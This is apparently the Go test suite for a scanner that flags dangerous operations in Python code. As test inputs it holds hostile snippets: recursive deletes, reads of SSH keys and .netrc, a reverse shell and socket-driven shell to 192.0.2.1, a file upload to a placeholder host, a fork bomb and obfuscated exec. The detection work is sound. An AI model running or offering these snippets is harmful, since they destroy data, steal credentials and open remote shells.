package inline

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// show writes calls in one line each: kind, arguments (… behind what is not wholly known), mode and marks.
func show(calls []Call) []string {
	var out []string
	for _, c := range calls {
		var b strings.Builder
		b.WriteString(string(c.Kind))
		for _, a := range c.Args {
			switch {
			case a.Glob:
				fmt.Fprintf(&b, " {%s}", a.Text)
			case a.Exact:
				fmt.Fprintf(&b, " [%s]", a.Text)
			default:
				fmt.Fprintf(&b, " [%s…]", a.Text)
			}
		}
		if c.Mode != "" {
			b.WriteString(" mode=" + c.Mode)
		}
		if c.Recursive {
			b.WriteString(" recursive")
		}
		if c.Dir != nil {
			b.WriteString(" in=" + c.Dir.Text)
		}
		out = append(out, b.String())
	}
	return out
}

// scanCase is a program and what it does; no want means that it does nothing.
type scanCase struct {
	name, src string
	want      []string
}

func runCases(t *testing.T, lang string, cases []scanCase) {
	t.Helper()
	t.Parallel()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(c.want, show(Scan(lang, c.src))); diff != "" {
				t.Errorf("Scan(%q, %q) (-want +got):\n%s", lang, c.src, diff)
			}
		})
	}
}

// A parameter is known where all calls of its function give it a constant text, and unknown where one of
// them, or a way to the function without its name, may give it another.
func TestPythonParameters(t *testing.T) {
	const body = "\nimport os, sys\ndef f(a, p):\n    os.remove(p)\n"
	unknown := []string{"delete […]"}
	runCases(t, "python3", []scanCase{
		{"one call", body + "f(1, 'x')", []string{"delete [x]"}},
		{"two calls", body + "for i in range(9):\n    f(i, 'x')\nf(g('y'), \"y\")", []string{"delete [x] [y]"}},
		{"no call", body, unknown},
		{"another text", body + "f(1, 'x')\nf(1, sys.argv[1])", unknown},
		{"a sum", body + "f(1, 'x' + sys.argv[1])", unknown},
		{"two literals", body + "f(1, 'x' 'y')", unknown},
		{"a format", body + "f(1, f'{sys.argv[1]}')", unknown},
		{"by its name", body + "f(1, 'x')\nf(a=1, p=sys.argv[1])", unknown},
		{"a list", body + "f(1, 'x')\nf(*sys.argv)", unknown},
		{"handed on", body + "f(1, 'x')\nlist(map(f, [1], sys.argv))", unknown},
		{"another name", body + "h = f\nf(1, 'x')\nh(1, sys.argv[1])", unknown},
		{"inside of a text", body + "f(1, 'x')\nprint(f'{f(1, sys.argv[1])}')", unknown},
		{"inside of the module", body + "f(1, 'x')\nglobals()[chr(102)](1, sys.argv[1])", unknown},
		{"in wide letters", body + "f(1, 'x')\n\uff46(1, sys.argv[1])", unknown},
		{"a decorator", "\nimport os\n@d\ndef f(p):\n    os.remove(p)\nf('x')", unknown},
		{"a method", "\nimport os\nclass C:\n    def f(self, p):\n        os.remove(p)\nC().f(1, 'x')", unknown},
		{
			"set again", "\nimport os, sys\ndef f(p):\n    p = p + sys.argv[1]\n    os.remove(p)\nf('x')",
			[]string{"delete [x] [x…] […]"},
		},
	})
}

func TestPythonFinds(t *testing.T) {
	runCases(t, "python3", []scanCase{
		{"system", `import os; os.system("rm -rf /srv")`, []string{"shell [rm -rf /srv]"}},
		{"alias", "import os as o\no.system('id')", []string{"shell [id]"}},
		{"from", "from os import system as s\ns('id')", []string{"shell [id]"}},
		{"from list", "from shutil import (copy,\n  rmtree)\nrmtree('/srv/a')",
			[]string{"delete [/srv/a] recursive"}},
		{"star", "from os import *\nremove('/srv/a')", []string{"delete [/srv/a]"}},
		{"import inline", `__import__("os").system("id")`, []string{"shell [id]"}},
		{"import built", `__import__("o"+"s").system("i" "d")`, []string{"shell [id]"}},
		{"importlib", `import importlib as il; il.import_module('subprocess').call(['rm','-r','x'])`,
			[]string{"exec [rm] [-r] [x]"}},
		{"getattr", `import os; getattr(os, 'sys'+'tem')('id')`, []string{"shell [id]"}},
		{"getattr unknown", `import os,sys; getattr(os, sys.argv[1])('id')`, []string{"dynamic"}},
		{"function in a variable", "import os\nf = os.remove\nf('/srv/a')", []string{"delete [/srv/a]"}},
		{"dict of a module", `import os; os.__dict__["system"]("id")`, []string{"shell [id]"}},
		{"constant variables", "import os\nbase = '/srv'\np = base + '/a'\nos.remove(p)",
			[]string{"delete [/srv/a]"}},
		{"f-string", "import os\nd='/srv'\nos.system(f'rm -rf {d}/x')", []string{"shell [rm -rf /srv/x]"}},
		{"f-string unknown", "import os,sys\nos.system(f'rm -rf {sys.argv[1]}')", []string{"shell [rm -rf …]"}},
		{"call in an f-string", `print(f"{__import__('os').system('id')}")`, []string{"shell [id]"}},
		{"percent", "import os; os.system('rm -rf %s' % '/srv/a')", []string{"shell [rm -rf /srv/a]"}},
		{"format", "import os; os.system('rm {} {}'.format('-r', '/srv/a'))", []string{"shell [rm -r /srv/a]"}},
		{"branches", "import os,sys\nif len(sys.argv): p='/srv/a'\nelse: p='/srv/b'\nos.remove(p)",
			[]string{"delete [/srv/a] [/srv/b]"}},
		{"annotation", "import os\np: str = '/srv/a'\nos.remove(p)\nos.remove(str)",
			[]string{"delete [/srv/a]", "delete […]"}},
		{"one-line block", "import os\nif os.name: p='/srv/a'\nos.remove(p)", []string{"delete [/srv/a]"}},
		{"one-line else", "import os\ntry: q='/srv/b'\nfinally: pass\nos.remove(q)", []string{"delete [/srv/b]"}},
		{"last value", "import os\np='/srv/a'\np='/srv/b'\nos.remove(p)", []string{"delete [/srv/b]"}},
		{"own value", "import os\nc='rm'\nc=c+' -rf'\nc=c+' /srv'\nos.system(c)", []string{"shell [rm -rf /srv]"}},
		{"append", "import os\nc='rm'\nc+=' -rf'\nc+=' /srv'\nos.system(c)", []string{"shell [rm -rf /srv]"}},
		{"loop over a list", "import os\nfor p in ['/srv/a', '/srv/b']:\n    os.remove(p)",
			[]string{"delete [/srv/a] [/srv/b]"}},
		{"glob", "import os,glob\nfor p in glob.glob('/srv/*.db'):\n    os.remove(p)",
			[]string{"delete {/srv/*.db}"}},
		{"walk", "import os\nfor r, ds, fs in os.walk('/srv'):\n  for f in fs:\n    os.remove(os.path.join(r, f))",
			[]string{"delete {/srv/*} recursive"}},
		{"walk in a comprehension",
			"import os;[os.remove(os.path.join(r, f)) for r, ds, fs in os.walk('/srv') for f in fs]",
			[]string{"delete {/srv/*} recursive"}},
		{"join", "import os; os.remove(os.path.join('/srv','a','b'))", []string{"delete [/srv/a/b]"}},
		{"path", "from pathlib import Path\n(Path('/srv')/'a'/'b').unlink()\nPath('/srv','c').rmdir()",
			[]string{"delete [/srv/a/b]", "delete [/srv/c]"}},
		{"path home", "from pathlib import Path\nprint((Path.home()/'.ssh'/'id_rsa').read_text())",
			[]string{"read [~/.ssh/id_rsa]"}},
		{"expanduser", "import os; open(os.path.expanduser('~/.netrc'))", []string{"read [~/.netrc]"}},
		{"home variable", "import os; open(os.environ['HOME']+'/.netrc')", []string{"read [~/.netrc]"}},
		{"literal tilde", "open('~/x')", []string{"read [./~/x]"}},
		{"open modes", "open('a');open('b','w');open('c',mode='ab');open('d','r+')",
			[]string{"read [a]", "write [b]", "append [c]", "read [d]", "write [d]"}},
		{"open with unknown mode", "import sys; open('a', sys.argv[1])", []string{"write [a]"}},
		{"os.open", "import os; os.open('/srv/a', os.O_RDWR|os.O_CREAT)", []string{"write [/srv/a]"}},
		{"renames", "import os,shutil; os.rename('a','b'); shutil.move('c','/srv'); shutil.copy('/srv/k','d')",
			[]string{"rename [a] [b]", "rename [c] [/srv]", "read [/srv/k]", "write [d]"}},
		{"modes", "import os,stat; os.chmod('a', 0o4755); os.chmod('b', stat.S_IRWXU); os.chown('c',0,0)",
			[]string{"chmod [a] mode=4755", "chmod [b]", "chown [c]"}},
		{"change of directory", "import os,shutil\nos.chdir('/')\nshutil.rmtree('srv')\nos.system('ls')",
			[]string{"delete [/srv] recursive", "shell [ls] in=/"}},
		{"subprocess text", "import subprocess; subprocess.run('rm -rf x', shell=True, cwd='/srv')",
			[]string{"shell [rm -rf x] in=/srv"}},
		{"subprocess argv", "from subprocess import *\nPopen(['rm','-rf','/srv'])",
			[]string{"exec [rm] [-rf] [/srv]"}},
		{"subprocess partial", "import subprocess,sys; subprocess.check_call(['git','add',sys.argv[1]]); " +
			"subprocess.run(['ls']+sys.argv)", []string{"exec [git] [add] […]", "exec [ls] […]"}},
		{"subprocess split",
			"import subprocess,shlex; subprocess.run(shlex.split('rm -r x')); subprocess.run('rm " +
				"-r y'.split())", []string{"exec [rm] [-r] [x]", "exec [rm] [-r] [y]"}},
		{"subprocess input", "import subprocess; subprocess.run(['sh'], input='rm -r x', text=True)",
			[]string{"spawn [sh]", "shell [rm -r x]"}},
		{"exec family", "import os; os.execl('/bin/sh','sh','-c','id'); os.execvp('rm',['rm','-r','x'])",
			[]string{"exec [/bin/sh] [-c] [id]", "exec [rm] [-r] [x]"}},
		{"pty", "import pty; pty.spawn('/bin/sh')", []string{"spawn [/bin/sh]"}},
		{"exec of text", `exec("import os\nos.system('id')")`, []string{"shell [id]"}},
		{"exec of base64", `import base64; exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))`,
			[]string{"dynamic […]"}},
		{"exec of hex", `exec(bytes.fromhex("696d706f7274206f733b6f732e73797374656d2827696427297b"[:-2]).decode())`,
			[]string{"dynamic […]"}},
		{"hex", `import os; os.system(bytes.fromhex("6964").decode())`, []string{"shell […]"}},
		{"codecs", `import os,codecs; os.system(codecs.decode("ez -es k","rot13"))`, []string{"shell […]"}},
		{"chr", `import os; os.system(chr(105)+chr(100))`, []string{"shell […]"}},
		{"chr map", `import os; os.system("".join(map(chr,[105,100])))`, []string{"shell […]"}},
		{"reversed", `import os; os.system("di"[::-1])`, []string{"shell […]"}},
		{"escapes", `import os; os.system("\x72\155\u0020\U0000002d")`, []string{"shell [rm -]"}},
		{"dynamic", "exec(input())", []string{"dynamic […]"}},
		{"network", "import requests; requests.get('http://a.example/x'); requests.post('http://b.example', " +
			"data=open('k').read())", []string{"network [http://a.example/x]", "upload [http://b.example]",
			"read [k]"}},
		{"urllib", "from urllib.request import urlopen, " +
			"urlretrieve\nurlopen('http://a.example')\nurlretrieve('http://a.example/x', 'y')",
			[]string{"network [http://a.example]", "network [http://a.example/x]", "write [y]"}},
		{"socket", "import socket; s=socket.socket(); s.connect(('a.example', 80))",
			[]string{"socket", "network [a.example:80]"}},
		{"listener", "import socket; s=socket.socket(); s.bind(('', 80))", []string{"socket", "listen [:80]"}},
		{"reverse shell",
			"import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.1',1))\n[os.dup2(s.fileno(),f) for f in " +
				"(0,1,2)]\npty.spawn('sh')",
			[]string{"socket", "network [192.0.2.1:1]", "spawn [sh]", "socket_shell"}},
		{"shell over recv",
			"import socket,subprocess\ns=socket.socket()\ns.connect(('192.0.2.1',1))\nwhile 1:\n c=s.recv(99)\n " +
				"subprocess.run(c,shell=True)",
			[]string{"socket", "network [192.0.2.1:1]", "shell […]", "socket_shell"}},
		{"fork bomb", "import os\nwhile True:\n    os.fork()", []string{"fork_bomb"}},
		{"fork bomb in a line", "import os\nwhile 1: os.fork()", []string{"fork_bomb"}},
		{"fork", "import os\nos.fork()", []string{"fork"}},
		{"forking server", "import os\nwhile True:\n    c, a = s.accept()\n    os.fork()", []string{"fork"}},
		{"signal", "import os,signal; os.kill(1, signal.SIGKILL)", []string{"signal [1] mode=SIGKILL"}},
		{"environment", "import os; print(os.environ)", []string{"env"}},
		{"function in brackets", "import os\n(os.system)('id'); [os.system][0]('id'); os.system.__call__('id')",
			[]string{"shell [id]", "shell [id]", "shell […]", "shell [id]"}},
		{"function in a dictionary", "import os\nx = {'f': os.system}\nx['f']('id')\ny = {'f': os.sep}",
			[]string{"shell […]"}},
		{"function passed on",
			"import os, threading\nlist(map(os.remove, ['a', 'b']))\nthreading.Thread(target=os.system, " +
				"args=('id',)).start()\nsorted(x, key=os.system)",
			[]string{"delete [a] [b]", "shell [id]", "shell […]"}},
		{"function by eval", "eval('os.system')('id')", []string{"shell [id]"}},
		{"modules by index", "import sys, " +
			"builtins\nsys.modules['os'].system('id')\nbuiltins.__dict__['ev'+'al']('os.remove(\"a\")')",
			[]string{"shell [id]", "delete [a]"}},
		{"continued line", "import os\nos.\\\nsystem('id')\nos.system(\n  'ls'\n)",
			[]string{"shell [id]", "shell [ls]"}},
		{"comprehension", "from pathlib import Path\n[f.unlink() for f in Path('/srv').glob('*')]",
			[]string{"delete {/srv/*}"}},
		{"iterdir", "import pathlib as p, shutil\nfor f in p.Path('/srv').iterdir():\n  shutil.rmtree(f)",
			[]string{"delete {/srv/*} recursive"}},
		{"members are not followed", "import os\nself.c='ls'\nos.system(self.c)", []string{"shell […]"}},
		{"decoy variable", "import os\nif 0: os = None\nos.system('id')", []string{"shell [id]"}},
		{"unknown path", "import os\ndef f(p):\n    os.remove(p)", []string{"delete […]"}},
		{"pickle", "import pickle\nwith open('a','rb') as f:\n  pickle.load(f)", []string{"read [a]", "decode"}},
		{"pickle of a literal", "import pickle\npickle.loads(b'x')", []string{"dynamic"}},
		{"pickle by a library", "import joblib, pandas\njoblib.load('a'); pandas.read_pickle('b')",
			[]string{"read [a]", "decode", "read [b]", "decode"}},
		{"pickle by an option",
			"import numpy as np, torch\nnp.load('a', allow_pickle=True); torch.load('b', weights_only=False)",
			[]string{"read [a]", "decode", "read [b]", "decode"}},
		{"library of C", "import ctypes\nctypes.CDLL('./a.so')", []string{"read [./a.so]", "decode"}},
		{"comment inside a call", "import os\nos.system( # run\n 'id' )", []string{"shell [id]"}},
	})
}

func TestPythonIgnores(t *testing.T) {
	runCases(t, "python", []scanCase{
		{"comment", "# os.system('id')\nx = 1", nil},
		{"string", `print("os.system('id')")`, nil},
		{"docstring", "\"\"\"\nos.system('rm -rf /')\n\"\"\"", nil},
		{"list method", "a=[1]; a.remove(1); b={}; b.update(a); df.replace('a','b'); s='x'.replace('x','y')", nil},
		{"model.eval", "model.eval(); re.compile('x'); df.eval('a+b')", nil},
		{"environment of one name", "import os; print(os.environ['PATH'], os.environ.get('X')); env = " +
			"os.environ.copy(); f(env=os.environ)", nil},
		{"attribute without call", "import os\nprint(os.system)", nil},
		{"definition", "def remove(x):\n    return x\nremove('/srv')", nil},
		{"syntax check", "import ast; ast.parse(open('a.py').read()); compile(open('a.py').read(),'a.py','exec')",
			[]string{"read [a.py]", "read [a.py]"}},
		{"data only",
			"import json, torch, numpy, pickle\njson.load(open('a')); torch.load('b', weights_only=True); " +
				"numpy.load('c'); pickle.dump(x, f)",
			[]string{"read [a]", "read [b]", "read [c]"}},
		{"sqlite", "import sqlite3; c=sqlite3.connect('a.db'); c.execute('drop table x')",
			[]string{"write [a.db]"}},
		{"platform", "import platform; print(platform.system())", nil},
	})
}
